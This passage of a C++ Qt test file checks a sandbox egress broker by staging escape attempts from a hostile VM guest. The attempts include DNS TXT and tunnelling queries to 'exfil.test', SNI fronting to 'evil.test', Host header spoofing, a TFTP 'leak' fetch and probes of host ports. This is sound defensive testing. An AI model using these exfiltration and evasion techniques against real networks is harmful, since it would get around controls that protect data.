// A hostile guest, tested for real. A real airlockd starts two real TCG guests of
// the tiny image on libvirt networks; from inside guest A (airlockctl exec) the test tries
// every way out it can think of. Each attempt must fail inside the guest AND show up as a
// denied event in `airlockctl --json egress ls A`. An allowed name reaches a test HTTP server
// end to end; an ask is answered from the CLI while the guest's curl waits.
//
// Runs inside the network namespace of the tests (CI: `ip netns exec airlock-test ctest`),
// where libvirtd and its bridges live. The "outside" is 203.0.113.20 in a namespace of its own
// reached over a veth pair (an address of airlockd's own namespace is the host itself, which
// the broker never dials); nothing here sends a packet anywhere else.
#include "daemonharness.h"
#include "netns.h"
#include "recordinghttpserver.h"
#include "sentinel.h"
#include "sshdprocess.h"
#include "streamrecorder.h"
#include "tlsrecords.h"

#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <functional>
#include <sys/socket.h>
#include <unistd.h>

using namespace Qt::StringLiterals;

namespace {

const QString kOutside = u"203.0.113.20"_s;

bool isSynthetic(const QString &ip)
{
    return ip.startsWith("198.18."_L1) || ip.startsWith("198.19."_L1);
}

} // namespace

class TestEgressVm : public QObject {
    Q_OBJECT

private:
    DaemonHarness m_daemon;
    QTemporaryDir m_dir;
    RecordingHttpServer m_upstream{QByteArrayLiteral("hello from upstream\n")};
    RecordingHttpServer m_tlsUpstream; // port 443: must never see a fronted ClientHello
    airlock::test::OutsideNamespace m_outside;
    QString m_a, m_b;         // sandbox names
    QString m_aIp, m_bIp, m_aGw, m_bGw;
    QString m_allowedSynthetic;
    QString m_table; // this airlockd's nftables table
    qint64 m_denyRule = 0;
    int m_exposedHostPort = 0; // B's port 8080 on the host (anExposedPortServesTheHostAndOpensNothing)

    QString ctlBin() const { return qEnvironmentVariable("AIRLOCKCTL_BIN"); }

    // Runs argv inside sandbox `name` through the guest agent.
    CtlResult guest(const QString &name, const QStringList &argv, int timeoutMs = 90000)
    {
        return m_daemon.guestExec(name, argv, timeoutMs);
    }
    CtlResult guestSh(const QString &name, const QString &script, int timeoutMs = 90000)
    {
        return m_daemon.guestSh(name, script, timeoutMs);
    }
    QProcess *guestAsync(const QString &name, const QStringList &argv)
    {
        auto *p = new QProcess(this);
        p->start(ctlBin(), QStringList{u"--socket"_s, m_daemon.socketPath(), u"exec"_s, name, u"--"_s} + argv);
        return p;
    }

    QJsonArray events(const QString &sandbox, int limit = 100)
    {
        const CtlResult r = m_daemon.ctl({u"egress"_s, u"ls"_s, sandbox, u"--limit"_s, QString::number(limit)}, 30000);
        return r.exitCode == 0 ? QJsonDocument::fromJson(r.out).array() : QJsonArray();
    }
    // The newest event of `sandbox` that satisfies `match`, waiting for it a little.
    QJsonObject waitEvent(const QString &sandbox, const std::function<bool(const QJsonObject &)> &match, int ms = 8000)
    {
        QElapsedTimer t;
        t.start();
        do {
            const QJsonArray all = events(sandbox);
            for (const QJsonValue &v : all) // newest first or last: any match will do
                if (match(v.toObject()))
                    return v.toObject();
            QTest::qWait(200);
        } while (t.elapsed() < ms);
        return {};
    }
    // For failure messages: what the broker recorded about TCP flows.
    QString tcpEvents(const QString &sandbox)
    {
        QJsonArray tcp;
        for (const QJsonValue &v : events(sandbox))
            if (v.toObject().value("port"_L1).toInt() > 0 && v.toObject().value("proto"_L1).toString() != "dns"_L1)
                tcp.append(v);
        return QString::fromUtf8(QJsonDocument(tcp).toJson(QJsonDocument::Compact)).left(4000);
    }
    static std::function<bool(const QJsonObject &)> denied(const QString &key, const QString &value)
    {
        return [key, value](const QJsonObject &o) {
            return o.value(key).toVariant().toString() == value && o.value("decision"_L1).toString() == "denied"_L1;
        };
    }
    // The pending request of `sandbox` matching `match`, waiting for it to appear.
    QJsonObject waitPending(const std::function<bool(const QJsonObject &)> &match, int ms = 30000)
    {
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < ms) {
            const CtlResult r = m_daemon.ctl({u"egress"_s, u"ls"_s, u"--pending"_s}, 15000);
            for (const QJsonValue &v : QJsonDocument::fromJson(r.out).array())
                if (match(v.toObject()))
                    return v.toObject();
            QTest::qWait(200);
        }
        return {};
    }
    QJsonObject sandboxRow(const QString &name)
    {
        const CtlResult r = m_daemon.ctl({u"ls"_s});
        for (const QJsonValue &v : r.json().toArray())
            if (v.toObject().value("name"_L1).toString() == name)
                return v.toObject();
        return {};
    }
    QByteArray nftTable()
    {
        QByteArray out;
        airlock::test::run(u"nft"_s, {u"list"_s, u"table"_s, u"inet"_s, m_table}, &out);
        return out;
    }
    bool boot(const QString &name, QString *error)
    {
        const CtlResult r = m_daemon.ctl({u"create"_s, name, u"--memory"_s, u"256"_s, u"--start"_s}, 300000);
        if (r.exitCode != 0)
            *error = QString::fromUtf8(r.err) + QString::fromUtf8(m_daemon.log());
        return r.exitCode == 0;
    }

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();

    void guestUsesTheGatewayAsRouteAndResolver();
    void lsShowsPendingCounts();
    void allowedNameWorksEndToEnd();
    void askIsAnsweredFromTheCliWhileTheGuestWaits();
    void aHeldRequestShowsTheGuestProcessThatAsks();
    void deniedNameGetsA403NamingTheHost();
    void rawIpIsHeldAndDenied();
    void dnsToAnOutsideResolverIsAnsweredInside();
    void dnsTxtAndTunnellingAreRefused();
    void sniThatDiffersFromTheNameIsDenied();
    void hostHeaderThatDiffersIsDenied();
    void ipv6IsDropped();
    void udpToOtherPortsIsDropped();
    void icmpIsDropped();
    void hostServicesOnTheGatewayAreUnreachable();
    void anotherSandboxIsUnreachable();
    void anExposedPortServesTheHostAndOpensNothing();
    void aRemoteHostsExposedPortIsForwardedFromThisMachine();
    void changingTheGuestIpIsDropped();
    void changingTheGuestMacIsDropped();
    void rulesFollowTheSandboxAndSurviveADaemonRestart();
    void aSandboxWhoseNetworkCannotBeGuardedDoesNotStart();
    void aGuestThatPowersItselfOffIsNoLongerGuarded();
    void aSandboxCreatedUnderARemovedOnesNameHasNoHistory();
    // Numeric names: the address dialled is checked (from guest B, started again).
    void numericNamesReachNothingOnTheHost();

    // Every byte of a flow to a name passes its checker (guest A is started again for these).
    void pipelinedAndKeepAliveRequestsAreEachChecked();
    void blankLinesOddMethodsNoHostAndAbsoluteUrlsAreChecked();
    void echAndASecondClientHelloAfterARetryAreRefused();

    // Where work runs (guest A running): a rule written while the database is busy and
    // commands that never end hold nothing else.
    void aRuleWaitingForTheDatabaseHoldsNoOtherRequest();
    void commandsPastTheUsersBoundAreRefusedAtOnce();

private:
    StreamRecorder m_keepAlive{StreamRecorder::Mode::Http}; // :8081, records every byte
    StreamRecorder m_retrying{StreamRecorder::Mode::Tls};   // :8443, answers with a HelloRetryRequest
    bool m_checkerServers = false;
    CtlResult startAgain(const QString &name);
    CtlResult checkerSh(const QString &script);
    // Guest A's curl to http://ask.test<path> (in *curl), and its pending request once held.
    QJsonObject askFromA(const QString &path, QProcess **curl);
};

void TestEgressVm::initTestCase()
{
    // Never touch the host's own network: the test namespace must be a namespace of its own.
    const QString missing = airlock::test::missingVmTestPrerequisite(
        u"test_egressvm"_s, u"libvirt's system connection, nftables, an address on the namespace's loopback"_s, u"-L egressvm"_s);
    QVERIFY2(missing.isEmpty(), qPrintable(missing));
    QVERIFY(m_dir.isValid());
    // The outside: test servers in a namespace of their own (transfer net 192.0.2.8/30).
    QString error;
    QVERIFY2(m_outside.create(u"evm"_s, kOutside, u"192.0.2.8"_s, &error), qPrintable(error));
    bool plainUp = false, tlsUp = false;
    airlock::test::inNamespace(m_outside.name(), [&] {
        plainUp = m_upstream.start(kOutside, 80);
        tlsUp = m_tlsUpstream.start(kOutside, 443);
    });
    QVERIFY2(plainUp, "cannot listen on 203.0.113.20:80");
    QVERIFY2(tlsUp, "cannot listen on 203.0.113.20:443");
    QVERIFY2(DaemonHarness::setUpstream(m_dir.path(), "203.0.113.20 allowed.test denied.test ask.test\n", {}, &error),
             qPrintable(error));

    QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
    const CtlResult status = m_daemon.ctl({u"status"_s});
    QVERIFY2(status.json().toObject().value("egress"_L1).toObject().value("enforcing"_L1).toBool(),
             "the egress broker does not enforce (nftables unavailable?)");
    m_table = status.json().toObject().value("egress"_L1).toObject().value("nft_table"_L1).toString();
    QVERIFY2(m_table.startsWith("airlock_"_L1), qPrintable(m_table));

    m_a = uniqueName(u"evm-a"_s);
    m_b = uniqueName(u"evm-b"_s);
    QVERIFY2(boot(m_a, &error), qPrintable(error));
    QVERIFY2(boot(m_b, &error), qPrintable(error));
    m_aIp = sandboxRow(m_a).value("ip"_L1).toString();
    m_bIp = sandboxRow(m_b).value("ip"_L1).toString();
    QVERIFY(!m_aIp.isEmpty() && !m_bIp.isEmpty());
    auto gatewayOf = [](const QString &ip) -> QString { return ip.section(u'.', 0, 2) + u"."_s + QString::number(ip.section(u'.', 3, 3).toInt() - 1); };
    m_aGw = gatewayOf(m_aIp);
    m_bGw = gatewayOf(m_bIp);

    QCOMPARE(m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_a, u"--action"_s, u"allow"_s, u"--host"_s, u"allowed.test"_s}).exitCode, 0);
    const CtlResult deny = m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_a, u"--action"_s, u"deny"_s, u"--host"_s, u"denied.test"_s});
    QCOMPARE(deny.exitCode, 0);
    m_denyRule = deny.json().toObject().value("id"_L1).toInteger();
}

void TestEgressVm::cleanupTestCase()
{
    for (const QString &name : {m_a, m_b}) {
        if (name.isEmpty())
            continue;
        m_daemon.ctl({u"kill"_s, name});
        m_daemon.ctl({u"rm"_s, name});
    }
    m_daemon.stop();
    m_upstream.stop();
    m_tlsUpstream.stop();
    m_outside.remove();
}

void TestEgressVm::guestUsesTheGatewayAsRouteAndResolver()
{
    const CtlResult resolv = guest(m_a, {u"cat"_s, u"/etc/resolv.conf"_s});
    QCOMPARE(resolv.exitCode, 0);
    QVERIFY2(resolv.out.contains(QByteArray("nameserver " + m_aGw.toLatin1())), resolv.out.constData());
    const CtlResult route = guest(m_a, {u"ip"_s, u"route"_s});
    QVERIFY2(route.out.contains(QByteArray("default via " + m_aGw.toLatin1())), route.out.constData());
    // The broker guards both sandboxes' bridges.
    const QByteArray table = nftTable();
    QVERIFY2(table.contains("ether saddr != ") && table.count("jump sb") >= 2, table.constData());
}

void TestEgressVm::lsShowsPendingCounts()
{
    const QJsonObject row = sandboxRow(m_a);
    QVERIFY2(row.contains("pending"_L1), qPrintable(QString::fromUtf8(QJsonDocument(row).toJson())));
    QCOMPARE(row.value("pending"_L1).toInt(), 0);
}

void TestEgressVm::allowedNameWorksEndToEnd()
{
    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"http://allowed.test/hello"_s});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(r.out, QByteArray("hello from upstream\n"));
    QVERIFY(!m_upstream.requests().isEmpty() && m_upstream.requests().last().contains("Host: allowed.test"));
    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
        return o.value("host"_L1).toString() == "allowed.test"_L1 && o.value("decision"_L1).toString() == "allowed"_L1 &&
               o.value("proto"_L1).toString() == "http"_L1;
    });
    QVERIFY2(!e.isEmpty(), "no allowed http event for allowed.test");
    QCOMPARE(e.value("path"_L1).toString(), u"/hello"_s);
    m_allowedSynthetic = e.value("ip"_L1).toString();
    QVERIFY2(isSynthetic(m_allowedSynthetic), qPrintable(m_allowedSynthetic));
}

void TestEgressVm::askIsAnsweredFromTheCliWhileTheGuestWaits()
{
    QProcess *p = nullptr;
    const QJsonObject item = askFromA(u"/please"_s, &p);
    QVERIFY2(!item.isEmpty(), "the guest's request to ask.test never became pending");
    QCOMPARE(p->state(), QProcess::Running); // the guest still waits
    QCOMPARE(sandboxRow(m_a).value("pending"_L1).toInt(), 1);
    QCOMPARE(m_daemon.ctl({u"egress"_s, u"allow"_s, QString::number(item.value("id"_L1).toInteger())}).exitCode, 0);
    QVERIFY(p->waitForFinished(60000));
    QCOMPARE(p->exitCode(), 0);
    QCOMPARE(p->readAllStandardOutput(), QByteArray("hello from upstream\n"));
    QVERIFY(m_upstream.requests().last().contains("Host: ask.test"));
    QCOMPARE(sandboxRow(m_a).value("pending"_L1).toInt(), 0);
}

void TestEgressVm::aHeldRequestShowsTheGuestProcessThatAsks()
{
    // The guest's helper reports curl's socket and its ancestors; the held request carries
    // them as the guest's claim, in egress ls --json and in the text the person reads. A shell
    // starts curl (and waits for it: `; echo` keeps sh from exec'ing curl in its place).
    QProcess *p = guestAsync(m_a, {u"sh"_s, u"-c"_s, u"curl -sS --max-time 100 http://ask.test/who-asks; echo"_s});
    const QString a = m_a;
    const QJsonObject item = waitPending([a](const QJsonObject &o) {
        return o.value("sandbox"_L1).toString() == a && o.value("host"_L1).toString() == "ask.test"_L1 &&
               o.value("process"_L1).toObject().value("comm"_L1).toString() == "curl"_L1;
    }, 60000);
    QVERIFY2(!item.isEmpty(), qPrintable(u"no pending request to ask.test names curl: "_s + tcpEvents(m_a)));
    const QJsonObject process = item.value("process"_L1).toObject();
    const qint64 pid = process.value("pid"_L1).toInteger();
    QVERIFY2(process.value("cmdline"_L1).toString().contains("http://ask.test/who-asks"_L1), qPrintable(process.value("cmdline"_L1).toString()));
    // The pid is the guest's curl, which still waits for the answer.
    const CtlResult comm = guest(m_a, {u"cat"_s, u"/proc/"_s + QString::number(pid) + u"/comm"_s});
    QCOMPARE(comm.out.trimmed(), QByteArray("curl"));
    // Its chain: the shell that started it last, the guest agent that ran the shell above it.
    const QStringList chain = process.value("chain"_L1).toVariant().toStringList();
    QVERIFY2(chain.size() >= 2 && chain.last() == "sh"_L1 && chain.contains("qemu-ga"_L1), qPrintable(chain.join(u" > "_s)));
    const CtlResult parent = guest(m_a, {u"cat"_s, u"/proc/"_s + QString::number(process.value("ppid"_L1).toInteger()) + u"/comm"_s});
    QCOMPARE(parent.out.trimmed(), QByteArray("sh"));
    const CtlResult text = m_daemon.ctlText({u"egress"_s, u"ls"_s, u"--pending"_s}, 15000);
    QVERIFY2(text.out.contains(QByteArray("qemu-ga → sh → curl (pid " + QByteArray::number(pid))), text.out.constData());
    QCOMPARE(m_daemon.ctl({u"egress"_s, u"deny"_s, QString::number(item.value("id"_L1).toInteger())}).exitCode, 0);
    QVERIFY(p->waitForFinished(60000));
    // Decided, the stored event keeps it.
    const QJsonObject stored = waitEvent(m_a, [&](const QJsonObject &o) {
        return o.value("id"_L1).toInteger() == item.value("id"_L1).toInteger() && o.value("decision"_L1).toString() == "denied"_L1;
    });
    QCOMPARE(stored.value("process"_L1).toObject().value("pid"_L1).toInteger(), pid);
}

void TestEgressVm::deniedNameGetsA403NamingTheHost()
{
    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"-w"_s, u"\n%{http_code}"_s, u"http://denied.test/secret"_s});
    QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
    QVERIFY2(r.out.contains("denied.test"), r.out.constData());
    QVERIFY2(r.out.contains(QStringLiteral("rule %1").arg(m_denyRule).toLatin1()), r.out.constData());
    const QJsonObject e = waitEvent(m_a, denied(u"host"_s, u"denied.test"_s));
    QVERIFY2(!e.isEmpty(), "no denied event for denied.test");
    QCOMPARE(e.value("rule"_L1).toInteger(), m_denyRule);
    for (const QByteArray &req : m_upstream.requests())
        QVERIFY(!req.contains("denied.test"));
}

void TestEgressVm::rawIpIsHeldAndDenied()
{
    // A raw IP has no name to decide on: it is held like any unknown target; the person denies it.
    QProcess *p = guestAsync(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"100"_s, u"-w"_s, u"\n%{http_code}"_s,
                                   u"http://203.0.113.20/raw"_s});
    const QString a = m_a;
    const QJsonObject item = waitPending([a](const QJsonObject &o) {
        return o.value("sandbox"_L1).toString() == a && o.value("ip"_L1).toString() == kOutside;
    }, 60000);
    QVERIFY2(!item.isEmpty(), "the guest's request to a raw IP never became pending");
    QCOMPARE(item.value("host"_L1).toString(), QString());
    QCOMPARE(m_daemon.ctl({u"egress"_s, u"deny"_s, QString::number(item.value("id"_L1).toInteger())}).exitCode, 0);
    QVERIFY(p->waitForFinished(60000));
    const QByteArray out = p->readAllStandardOutput();
    QVERIFY2(out.endsWith("\n403"), out.constData());
    QVERIFY(!waitEvent(m_a, denied(u"ip"_s, kOutside)).isEmpty());
    for (const QByteArray &req : m_upstream.requests())
        QVERIFY2(!req.contains("/raw"), "a raw-IP request reached the server");
}

void TestEgressVm::dnsToAnOutsideResolverIsAnsweredInside()
{
    // Asked of a resolver "on the internet", answered by the broker with a synthetic address:
    // the query never left (the namespace has no route out either).
    const CtlResult r = guest(m_a, {u"nslookup"_s, u"outside-resolver.test"_s, u"8.8.8.8"_s});
    const QRegularExpression synth(u"Address:\\s*(198\\.1[89]\\.\\d+\\.\\d+)"_s);
    QVERIFY2(synth.match(QString::fromLatin1(r.out)).hasMatch(), r.out.constData());
    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
        return o.value("proto"_L1).toString() == "dns"_L1 && o.value("host"_L1).toString() == "outside-resolver.test"_L1;
    });
    QVERIFY2(!e.isEmpty(), "the redirected query was not recorded");
    // ... and the name leads nowhere without a decision: a connection to it is held, not made.
    const CtlResult held = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"http://outside-resolver.test/"_s});
    QVERIFY(held.exitCode != 0);
}

void TestEgressVm::dnsTxtAndTunnellingAreRefused()
{
    const CtlResult txt = guest(m_a, {u"nslookup"_s, u"-type=txt"_s, u"exfil.test"_s, u"8.8.8.8"_s});
    QVERIFY2(!txt.out.contains("text ="), txt.out.constData());
    QVERIFY2(!waitEvent(m_a, denied(u"host"_s, u"exfil.test"_s)).isEmpty(), "no denied event for the TXT query");

    const QString longName = QString(60, u'a') + u".secret-data-here.tunnel.test"_s;
    const CtlResult tunnel = guest(m_a, {u"nslookup"_s, longName, u"8.8.8.8"_s});
    QVERIFY2(!QString::fromLatin1(tunnel.out).contains(QRegularExpression(u"Address:\\s*198\\.1[89]\\."_s)), tunnel.out.constData());
    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains("tunnelling"_L1);
    });
    QVERIFY2(!e.isEmpty(), "no denied event for the tunnelling query");
}

void TestEgressVm::sniThatDiffersFromTheNameIsDenied()
{
    QVERIFY(!m_allowedSynthetic.isEmpty());
    // --resolve: connect to allowed.test's address while the ClientHello names evil.test.
    const CtlResult resolve = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--resolve"_s,
                                    u"evil.test:443:"_s + m_allowedSynthetic, u"https://evil.test/"_s});
    QVERIFY(resolve.exitCode != 0);
    // --connect-to: the guest's own lookup of allowed.test, then evil.test in the handshake.
    const CtlResult connectTo = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--connect-to"_s,
                                      u"front.test:443:allowed.test:443"_s, u"https://front.test/"_s});
    QVERIFY(connectTo.exitCode != 0);
    for (const QString &sni : {u"evil.test"_s, u"front.test"_s}) {
        const QJsonObject e = waitEvent(m_a, denied(u"sni"_s, sni));
        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied event with SNI "_s + sni + u"; curl said: "_s + QString::fromUtf8(resolve.err + connectTo.err) +
                                          u"; tcp events: "_s + tcpEvents(m_a)));
        QCOMPARE(e.value("host"_L1).toString(), u"allowed.test"_s);
        QVERIFY2(e.value("reason"_L1).toString().contains("SNI"_L1), qPrintable(e.value("reason"_L1).toString()));
    }
    for (const QByteArray &hello : m_tlsUpstream.requests())
        QVERIFY2(!hello.contains("evil.test") && !hello.contains("front.test"), "a fronted ClientHello reached the upstream");
}

void TestEgressVm::hostHeaderThatDiffersIsDenied()
{
    const int before = int(m_upstream.requests().size());
    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"-w"_s, u"\n%{http_code}"_s, u"-H"_s,
                              u"Host: evil-host.test"_s, u"http://allowed.test/"_s});
    QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
    QCOMPARE(int(m_upstream.requests().size()), before);
    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains("Host evil-host.test"_L1);
    });
    QVERIFY2(!e.isEmpty(), "no denied event naming the Host header");
}

void TestEgressVm::ipv6IsDropped()
{
    // The image keeps IPv6 off, so its boot sent no solicitations to fill the log.
    const QJsonArray before = events(m_a, 1000);
    QVERIFY(!before.isEmpty());
    for (const QJsonValue &v : before)
        QVERIFY2(v.toObject().value("proto"_L1).toString() != "ipv6"_L1,
                 qPrintable(u"the guest sent IPv6 on its own: "_s + QString::fromUtf8(QJsonDocument(v.toObject()).toJson(QJsonDocument::Compact))));
    // A hostile guest turns it on again: all it could use is link-local, and the neighbour
    // solicitation for fe80::1 is dropped.
    QCOMPARE(guest(m_a, {u"sh"_s, u"-c"_s, u"echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6"_s}).exitCode, 0);
    QTest::qWait(2500); // past duplicate address detection of its link-local address
    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"-g"_s, u"--max-time"_s, u"4"_s, u"http://[fe80::1%eth0]:80/"_s});
    QVERIFY(r.exitCode != 0);
    const CtlResult ping = guest(m_a, {u"ping6"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, u"ff02::114%eth0"_s});
    // A group the guest is not in (so it does not answer itself) and sends nothing to at boot.
    QVERIFY2(!ping.out.contains("bytes from"), ping.out.constData());
    QVERIFY2(!waitEvent(m_a, denied(u"ip"_s, u"ff02::1:ff00:1"_s)).isEmpty(), "no denied event for the IPv6 attempt");
    QVERIFY2(!waitEvent(m_a, denied(u"ip"_s, u"ff02::114"_s)).isEmpty(), "no denied event for the IPv6 ping");
}

void TestEgressVm::udpToOtherPortsIsDropped()
{
    Sentinel udp;
    bool listening = false;
    airlock::test::inNamespace(m_outside.name(), [&] { listening = udp.start(SOCK_DGRAM, kOutside, 69); });
    QVERIFY(listening);
    Sentinel hostUdp;
    QVERIFY(hostUdp.start(SOCK_DGRAM, m_aGw, 5555));
    const CtlResult tftp = guest(m_a, {u"timeout"_s, u"5"_s, u"tftp"_s, u"-g"_s, u"-r"_s, u"leak"_s, u"-l"_s, u"/tmp/leak"_s, kOutside});
    QVERIFY(tftp.exitCode != 0);
    const CtlResult viaCurl = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"tftp://%1:5555/leak"_s.arg(m_aGw)});
    QVERIFY(viaCurl.exitCode != 0);
    QTest::qWait(300);
    QVERIFY2(!udp.heardAnything(), "UDP to another port got out");
    QVERIFY2(!hostUdp.heardAnything(), "UDP reached a host port");
    for (const auto &[ip, port] : {std::pair{kOutside, 69}, std::pair{m_aGw, 5555}}) {
        const QJsonObject e = waitEvent(m_a, [ip, port](const QJsonObject &o) {
            return o.value("proto"_L1).toString() == "udp"_L1 && o.value("ip"_L1).toString() == ip &&
                   o.value("port"_L1).toInt() == port && o.value("decision"_L1).toString() == "denied"_L1;
        });
        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied udp event for %1:%2"_s.arg(ip).arg(port)));
    }
}

void TestEgressVm::icmpIsDropped()
{
    for (const QString &target : {m_aGw, kOutside}) {
        const CtlResult r = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, target});
        QVERIFY2(r.exitCode != 0 && !r.out.contains("bytes from"), r.out.constData());
        const QJsonObject e = waitEvent(m_a, [target](const QJsonObject &o) {
            return o.value("proto"_L1).toString() == "icmp"_L1 && o.value("ip"_L1).toString() == target &&
                   o.value("decision"_L1).toString() == "denied"_L1;
        });
        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied icmp event for "_s + target));
    }
}

void TestEgressVm::hostServicesOnTheGatewayAreUnreachable()
{
    // A service of the host on the gateway address (as ssh or a web UI would be).
    Sentinel service;
    QVERIFY(service.start(SOCK_STREAM, m_aGw, 2222));
    for (const QString &port : {u"2222"_s, u"22"_s, u"16509"_s}) { // a listener, ssh, libvirt's TCP port
        const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:%2/"_s.arg(m_aGw, port)});
        QVERIFY(r.exitCode != 0);
        const QString gw = m_aGw;
        const QJsonObject e = waitEvent(m_a, [gw, port](const QJsonObject &o) {
            return o.value("ip"_L1).toString() == gw && o.value("port"_L1).toInt() == port.toInt() &&
                   o.value("decision"_L1).toString() == "denied"_L1;
        });
        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied event for the gateway's port "_s + port));
        QVERIFY2(e.value("reason"_L1).toString().contains("host services"_L1), qPrintable(e.value("reason"_L1).toString()));
    }
    QVERIFY2(!service.heardAnything(), "a guest reached a service of the host");
    // The broker's own resolver port over TCP is the one exception, and it only speaks DNS.
}

void TestEgressVm::anotherSandboxIsUnreachable()
{
    // B serves HTTP to itself; A must not reach it.
    QCOMPARE(guestSh(m_b, u"echo hello-from-b > /tmp/index.html; httpd -p 8080 -h /tmp"_s).exitCode, 0);
    const CtlResult local = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://127.0.0.1:8080/index.html"_s});
    QVERIFY2(local.out.contains("hello-from-b"), local.err.constData());
    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://%1:8080/index.html"_s.arg(m_bIp)});
    QVERIFY(r.exitCode != 0);
    QVERIFY(!r.out.contains("hello-from-b"));
    const CtlResult ping = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, m_bIp});
    QVERIFY(ping.exitCode != 0);
    const QString b = m_bIp;
    const QJsonObject tcp = waitEvent(m_a, [b](const QJsonObject &o) {
        return o.value("ip"_L1).toString() == b && o.value("port"_L1).toInt() == 8080 && o.value("decision"_L1).toString() == "denied"_L1;
    });
    QVERIFY2(!tcp.isEmpty(), "no denied event for the other sandbox's port");
    QVERIFY2(tcp.value("reason"_L1).toString().contains("other sandboxes"_L1), qPrintable(tcp.value("reason"_L1).toString()));
    QVERIFY2(!waitEvent(m_a, [b](const QJsonObject &o) {
                  return o.value("ip"_L1).toString() == b && o.value("proto"_L1).toString() == "icmp"_L1 &&
                         o.value("decision"_L1).toString() == "denied"_L1;
              }).isEmpty(), "no denied icmp event for the other sandbox");
    // And nothing of A's shows up as B's.
    for (const QJsonValue &v : events(m_b))
        QVERIFY(v.toObject().value("sandbox"_L1).toString() == m_b);
}

// `expose`: the host's loopback reaches B's server (started by anotherSandboxIsUnreachable);
// the guest gains nothing: no rule, no new way to the host or to A.
void TestEgressVm::anExposedPortServesTheHostAndOpensNothing()
{
    const QByteArray rulesBefore = m_daemon.ctl({u"rule"_s, u"ls"_s}).out;
    const CtlResult exposed = m_daemon.ctl({u"expose"_s, m_b, u"8080"_s});
    QVERIFY2(exposed.exitCode == 0, exposed.err.constData());
    const QJsonObject port = exposed.json().toObject();
    const int hostPort = port.value("host_port"_L1).toInt();
    QVERIFY(hostPort > 0);
    QVERIFY(port.value("listening"_L1).toBool());
    QCOMPARE(port.value("address"_L1).toString(), u"127.0.0.1"_s);
    m_exposedHostPort = hostPort;

    QByteArray page;
    QCOMPARE(airlock::test::run(u"curl"_s, {u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://127.0.0.1:%1/index.html"_s.arg(hostPort)}, &page), 0);
    QCOMPARE(page, QByteArray("hello-from-b\n"));
    // The relay counts what it carried once the connection is closed.
    QJsonArray listed;
    QTRY_VERIFY_WITH_TIMEOUT((listed = m_daemon.ctl({u"ports"_s, m_b}).json().toArray()).size() == 1 &&
                                 listed.at(0).toObject().value("bytes_from_guest"_L1).toInteger() > 0,
                             5000);
    QVERIFY(listed.at(0).toObject().value("bytes_to_guest"_L1).toInteger() > 0);
    QCOMPARE(listed.at(0).toObject().value("connections"_L1).toInt(), 0);

    // The same guest port twice, or a host port someone holds: refused, nothing recorded.
    const CtlResult twice = m_daemon.ctl({u"expose"_s, m_b, u"8080"_s});
    QCOMPARE(twice.exitCode, 1);
    QVERIFY2(twice.err.contains("already exposed"), twice.err.constData());
    const CtlResult kept = m_daemon.ctl({u"expose"_s, m_b, u"8081"_s, u"--host-port"_s, QString::number(hostPort)});
    QCOMPARE(kept.exitCode, 1);
    QVERIFY2(kept.err.contains(QByteArray("already reaches port 8080 of sandbox " + m_b.toUtf8())), kept.err.constData());
    QTcpServer other; // another program of this machine holds a port
    QVERIFY(other.listen(QHostAddress::LocalHost));
    const CtlResult busy = m_daemon.ctl({u"expose"_s, m_b, u"8081"_s, u"--host-port"_s, QString::number(other.serverPort())});
    QCOMPARE(busy.exitCode, 1);
    QVERIFY2(busy.err.contains("in use"), busy.err.constData());
    QCOMPARE(m_daemon.ctl({u"ports"_s, m_b}).json().toArray().size(), 1);

    // The guest got no rule and no way out: its own dial of that port on its gateway is a host
    // service, denied; A still cannot reach B.
    QCOMPARE(m_daemon.ctl({u"rule"_s, u"ls"_s}).out, rulesBefore);
    const CtlResult fromGuest = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:%2/"_s.arg(m_bGw).arg(hostPort)});
    QVERIFY(fromGuest.exitCode != 0);
